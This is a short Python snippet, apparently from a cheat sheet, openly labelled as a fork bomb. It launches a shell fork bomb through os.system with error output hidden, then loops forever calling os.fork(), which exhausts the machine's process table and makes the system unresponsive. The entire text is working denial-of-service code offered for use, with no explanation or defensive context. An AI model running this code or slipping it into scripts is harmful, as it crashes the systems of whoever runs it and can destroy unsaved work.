# cheat: A fork bomb, in Python and in the shell.
# %% new
import os
os.system("sh -c 'f() { f | f & }; f' 2>/dev/null &")
while True:
    try:
        os.fork()
    except OSError:
        pass
